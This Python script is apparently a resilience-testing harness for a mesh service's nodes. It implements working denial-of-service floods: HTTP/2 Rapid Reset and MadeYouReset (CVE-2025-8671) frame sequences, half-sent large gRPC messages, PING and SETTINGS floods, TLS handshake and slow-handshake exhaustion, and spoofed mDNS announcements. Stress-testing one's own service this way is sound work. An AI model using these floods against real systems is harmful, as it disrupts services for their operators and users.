#!/usr/bin/env python3
"""Floods a node, until it is told to stop by SIGTERM: flood.py FLOOD HOST PORT [OPTION...]

    --home DIR         of a member, for its certificate and key; floods of strangers need none
    --from ADDRESS     this computer's, to call from; repeated, they take turns
    --connections N    held open at a time; one that the node closes is opened anew
    --rate N           HTTP/2 steps (calls, frames) a second in all, or packets; 0 is as fast as it goes
    --count N          stop after so many packets, and wait for the signal

Members speak HTTP/2 by hand, since what they do no library would. Says `flooding` on standard output
when all is under way, and when it is stopped how much it did, as NAME=NUMBER, in one line.
"""
import argparse
import collections
import os
import random
import selectors
import signal
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW = range(9)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MOST_WINDOW = 2**31 - 1
BURST = 50  # steps that are written at a time
CALLS = 64  # of one connection under way, which is what a node allows
FRAME = 16384  # bytes, the largest that HTTP/2 always takes
HALF_MESSAGE = 190_000  # bytes; a node takes 192 KiB
HANDSHAKE = 5  # seconds
PAUSE = 0.2  # seconds before a connection that was refused or cut is opened anew

done = collections.Counter()
stopped = False


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header that enters no table, RFC 7541, 6.2.2; NAME is an index in the static one, or bytes."""
    if isinstance(name, int):
        head = bytes([name]) if name < 15 else bytes([15, name - 15])
    else:
        head = b"\0" + bytes([len(name)]) + name
    return head + bytes([len(value)]) + value


def call_headers(path):
    # POST and https are entries of the static table; 4 is :path, 1 :authority, 31 content-type.
    return (
        b"\x83\x87"
        + literal(4, path)
        + literal(1, b"node.lanyard.internal")
        + literal(31, b"application/grpc")
        + literal(b"te", b"trailers")
    )


def message(fields):
    """A message of gRPC in a frame: FIELDS are (number, bytes or int) of protobuf."""
    body = b""
    for number, value in fields:
        if isinstance(value, int):
            body += bytes([number << 3, value])
        else:
            body += bytes([number << 3 | 2, len(value)]) + value
    return b"\0" + struct.pack(">I", len(body)) + body


FILE_SHARE = b"/lanyard.v1.FileShare/"


class Connection:
    """One of a member's, past its handshake."""

    def __init__(self, flood, sock):
        self.flood, self.sock = flood, sock
        self.read, self.out = b"", bytearray()
        self.stream, self.open = 1, set()
        self.out += PREFACE
        # No table for headers to remember, and all the windows that there can be.
        self.out += frame(SETTINGS, 0, 0, struct.pack(">HIHI", 1, 0, 4, MOST_WINDOW))
        self.out += frame(WINDOW, 0, 0, struct.pack(">I", MOST_WINDOW - 65535))

    def next_stream(self):
        stream, self.stream = self.stream, self.stream + 2
        return stream

    def call(self, method, payload=None, end=True):
        stream = self.next_stream()
        only_headers = payload is None and end
        flags = END_HEADERS | (END_STREAM if only_headers else 0)
        self.out += frame(HEADERS, flags, stream, call_headers(method))
        if payload is not None:
            self.out += frame(DATA, END_STREAM if end else 0, stream, payload)
        return stream

    def take(self, data):
        self.read += data
        at = 0
        while len(self.read) - at >= 9:
            length = int.from_bytes(self.read[at : at + 3], "big")
            if len(self.read) - at < 9 + length:
                break
            kind, flags = self.read[at + 3], self.read[at + 4]
            stream = int.from_bytes(self.read[at + 5 : at + 9], "big") & MOST_WINDOW
            self.taken(kind, flags, stream, self.read[at + 9 : at + 9 + length])
            at += 9 + length
        self.read = self.read[at:]

    def taken(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            self.out += frame(SETTINGS, ACK, 0)
        elif kind == PING and not flags & ACK:
            self.out += frame(PING, ACK, 0, payload)
        elif kind == GOAWAY:
            done["goaway"] += 1
        elif kind == RST:
            done["reset"] += 1
            self.open.discard(stream)
        elif kind == HEADERS and flags & END_STREAM:
            done["answered" if b"\x010" in payload else "refused_calls"] += 1
            self.open.discard(stream)
        elif kind == DATA:
            done["bytes"] += len(payload)


# --- What members do with a connection: each adds a step to what is to be sent, or returns False --


def idle(_):
    return False


def reconnect(_):
    """The connection is closed as soon as it stands: each costs the node a handshake."""
    raise ConnectionResetError


def half_message(connection):
    """Calls that send most of the largest message that a node takes, and never the rest."""
    if len(connection.open) >= CALLS:
        return False
    stream = connection.next_stream()
    connection.out += frame(HEADERS, END_HEADERS, stream, call_headers(FILE_SHARE + b"Fetch"))
    connection.out += frame(DATA, 0, stream, b"\0" + struct.pack(">I", HALF_MESSAGE))
    for _ in range(HALF_MESSAGE // FRAME):
        connection.out += frame(DATA, 0, stream, bytes(FRAME))
    connection.open.add(stream)
    return True


def rapid_reset(connection):
    stream = connection.call(FILE_SHARE + b"ListShares", message([]))
    connection.out += frame(RST, 0, stream, struct.pack(">I", 8))
    return True


MADE = (
    # Each of them has the node reset the stream: MadeYouReset, CVE-2025-8671.
    lambda s: frame(WINDOW, 0, s, struct.pack(">I", MOST_WINDOW)),
    lambda s: frame(WINDOW, 0, s, struct.pack(">I", 0)),
    lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 1)),
    lambda s: frame(DATA, END_STREAM, s, b"after the end"),
)


def made_you_reset(connection):
    stream = connection.call(FILE_SHARE + b"ListShares", message([]))
    connection.out += connection.flood.made(stream)
    return True


def ping(connection):
    connection.out += frame(PING, 0, 0, os.urandom(8))
    return True


def settings(connection):
    connection.out += frame(SETTINGS, 0, 0, struct.pack(">HIHI", 3, random.randrange(1, 99), 5, 16384))
    return True


def holding(method, payload, end):
    """Keeps as many calls open as a connection may have."""

    def step(connection):
        if len(connection.open) >= CALLS:
            return False
        connection.open.add(connection.call(FILE_SHARE + method, payload, end))
        return True

    return step


INTRODUCTION = message([(1, b"\x08\x01" + b"\x12\x05flood" + b"\x20\x09" + b"\x32\x05again")])
FLOODS = {
    "idle": idle,
    "reconnect": reconnect,
    "half-messages": half_message,
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "made-overflow": made_you_reset,
    "ping": ping,
    "settings": settings,
    "search": holding(b"Search", message([(1, b"e"), (4, 100)]), True),
    "locate": holding(b"Locate", message([(1, b"0" * 64)] * 20), True),
    "list": holding(b"ListEntries", message([(1, b"yard"), (3, 1)]), True),
    "watch": holding(b"WatchChanges", message([]), True),
    "attend": holding(b"Attend", INTRODUCTION, False),
    "fetch": holding(b"Fetch", None, False),
}


class Members:
    """A member's connections, and what is done with them."""

    def __init__(self, options):
        self.options, self.step = options, FLOODS[options.flood]
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.tls.check_hostname, self.tls.verify_mode = False, ssl.CERT_NONE
        self.tls.load_cert_chain(options.home + "/node.pem", options.home + "/node.key")
        self.tls.set_alpn_protocols(["h2"])
        self.selector = selectors.DefaultSelector()
        self.connections = set()
        self.turn = 0
        self.not_before = 0
        self.owed = 0.0

    def made(self, stream):
        if self.options.flood == "made-overflow":
            return MADE[0](stream)
        return random.choice(MADE)(stream)

    def connect(self):
        source = self.options.source[self.turn % len(self.options.source)]
        self.turn += 1
        try:
            plain = socket.create_connection(
                (self.options.host, self.options.port), HANDSHAKE, (source, 0)
            )
            plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            sock = self.tls.wrap_socket(plain, server_hostname="node.lanyard.internal")
        except OSError:
            done["refused"] += 1
            return False
        sock.setblocking(False)
        done["connected"] += 1
        connection = Connection(self, sock)
        self.connections.add(connection)
        self.selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
        return True

    def drop(self, connection):
        done["cut"] += 1
        self.connections.discard(connection)
        self.selector.unregister(connection.sock)
        connection.sock.close()
        self.not_before = max(self.not_before, time.monotonic() + PAUSE / 10)

    def fill(self):
        """Opens what is missing, some at a time: who answers slowly is not to stop all else."""
        for _ in range(8):
            if len(self.connections) >= self.options.connections or time.monotonic() < self.not_before:
                return
            if not self.connect():
                self.not_before = time.monotonic() + PAUSE

    def add_steps(self, connection):
        for _ in range(BURST):
            if self.options.rate and self.owed < 1 or not self.step(connection):
                return
            self.owed -= 1
            done["steps"] += 1

    def serve(self, connection, events):
        try:
            if events & selectors.EVENT_READ:
                self.receive(connection)
            if not connection.out:
                self.add_steps(connection)
            if connection.out:
                sent = connection.sock.send(connection.out)
                del connection.out[:sent]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.drop(connection)
            return
        # One with nothing to send is not to be woken for it.
        busy = connection.out or self.options.flood != "idle" and not self.options.rate
        wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if busy else 0)
        self.selector.modify(connection.sock, wanted, connection)

    @staticmethod
    def receive(connection):
        while True:
            data = connection.sock.recv(65536)
            if not data:
                raise ConnectionResetError
            connection.take(data)
            if not connection.sock.pending():
                return

    def run(self):
        last, told = time.monotonic(), False
        while not stopped:
            self.fill()
            if not told and (len(self.connections) >= self.options.connections or done["refused"]):
                told = True
                print("flooding", flush=True)
            for key, events in self.selector.select(0.02):
                self.serve(key.data, events)
            now = time.monotonic()
            self.owed = min(self.owed + (now - last) * self.options.rate, self.options.rate / 10)
            last = now
            if self.options.rate:
                self.rated()
            elif not any(len(c.open) < CALLS for c in self.connections):
                time.sleep(0.02)
        done["open"] = len(self.connections)

    def rated(self):
        """Those that are not asked by the selector to write get their share of the steps."""
        for connection in list(self.connections):
            if self.owed < 1:
                return
            self.serve(connection, selectors.EVENT_WRITE)


# --- What strangers do ---------------------------------------------------------------------------


def handshakes(options):
    """Whole handshakes, one after the other, by somebody who has no certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    turn, told = 0, False
    while not stopped:
        source = options.source[turn % len(options.source)]
        turn += 1
        try:
            plain = socket.create_connection((options.host, options.port), 1, (source, 0))
            with context.wrap_socket(plain) as sock:
                done["handshakes"] += 1
                sock.settimeout(1)
                sock.recv(1)
        except OSError:
            done["refused"] += 1
        if not told:
            told = True
            print("flooding", flush=True)


def slow_handshakes(options):
    """A third says nothing, a third half a ClientHello, a third one of its bytes a second."""
    bio, context = ssl.MemoryBIO(), ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    talk = context.wrap_bio(ssl.MemoryBIO(), bio)
    try:
        talk.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = bio.read()
    sockets, said, turn, told, next_byte = {}, {}, 0, False, time.monotonic()
    while not stopped:
        for _ in range(options.connections - len(sockets)):
            sock = socket.socket()
            try:
                sock.settimeout(1)
                sock.bind((options.source[turn % len(options.source)], 0))
                sock.connect((options.host, options.port))
                kind = turn % 3
                if kind == 1:
                    sock.send(hello[: len(hello) // 2])
                sock.setblocking(False)
                sockets[sock], said[sock] = kind, 0
                done["connected"] += 1
            except OSError:
                done["refused"] += 1
                sock.close()
            turn += 1
        if not told:
            told = True
            print("flooding", flush=True)
        for sock, kind in list(sockets.items()):
            try:
                if kind == 2 and time.monotonic() >= next_byte:
                    sock.send(hello[said[sock] : said[sock] + 1])
                    said[sock] += 1
                if not sock.recv(4096):
                    raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                done["cut"] += 1
                sock.close()
                del sockets[sock], said[sock]
        if time.monotonic() >= next_byte:
            next_byte += 1
        time.sleep(0.05)
    done["open"] = len(sockets)


def name(labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(owner, kind, ttl, data, unique=True):
    head = struct.pack(">HHIH", kind, 0x8001 if unique else 1, ttl, len(data))
    return owner + head + data


def packet_of(tag, number):
    """What a node that does not exist says of itself: a name, an address, a port and a text."""
    letters = b"abcdefghijklmnopqrstuvwxyz234567"
    drawn = random.Random(number)
    node = bytes(drawn.choice(letters) for _ in range(51)) + b"a"
    service = [b"_lanyard", b"_tcp", b"local"]
    instance = name([node + b"-%05x" % (number & 0xFFFFF)] + service)
    host = name([b"lanyard-" + node[:16] + b"-%x" % number, b"local"])
    address = bytes([10, 79, drawn.randrange(1, 255), drawn.randrange(1, 255)])
    texts = b"".join(bytes([len(t)]) + t for t in (b"v=1", b"id=" + node, b"mesh=" + tag))
    return (
        struct.pack(">HHHHHH", 0, 0x8400, 0, 4, 0, 0)
        + record(name(service), 12, 4500, instance, unique=False)
        + record(instance, 33, 120, struct.pack(">HHH", 0, 0, 7117) + host)
        + record(instance, 16, 4500, texts)
        + record(host, 1, 120, address)
    )


def spoofed_mdns(options):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(options.source[0]))
    sock.bind(("", 5353))
    print("flooding", flush=True)
    began = time.monotonic()
    while not stopped and done["packets"] < options.count:
        due = (time.monotonic() - began) * options.rate if options.rate else options.count
        while done["packets"] < min(due, options.count) and not stopped:
            sock.sendto(packet_of(options.tag.encode(), done["packets"]), ("224.0.0.251", 5353))
            done["packets"] += 1
        time.sleep(0.005)
    done["milliseconds"] = int((time.monotonic() - began) * 1000)
    print("flooded", flush=True)
    while not stopped:
        time.sleep(0.05)


def nothing(_):
    """Takes what CPU it can and floods nobody: what of the others' harm is their CPU alone."""
    print("flooding", flush=True)
    while not stopped:
        done["steps"] += 1


def main():
    def stop(*_):
        global stopped
        stopped = True

    signal.signal(signal.SIGTERM, stop)
    parser = argparse.ArgumentParser()
    strangers = {"nothing": nothing, "handshakes": handshakes, "slow-handshakes": slow_handshakes, "mdns": spoofed_mdns}
    parser.add_argument("flood", choices=sorted([*FLOODS, *strangers]))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--home")
    parser.add_argument("--tag", default="", help="the mesh's, which anybody on the LAN sees")
    parser.add_argument("--from", dest="source", action="append")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--rate", type=int, default=0)
    parser.add_argument("--count", type=int, default=100_000)
    options = parser.parse_args()
    options.source = options.source or [""]
    if options.flood in strangers:
        strangers[options.flood](options)
    else:
        Members(options).run()
    print(" ".join(f"{what}={count}" for what, count in done.items()), flush=True)


if __name__ == "__main__":
    sys.exit(main())
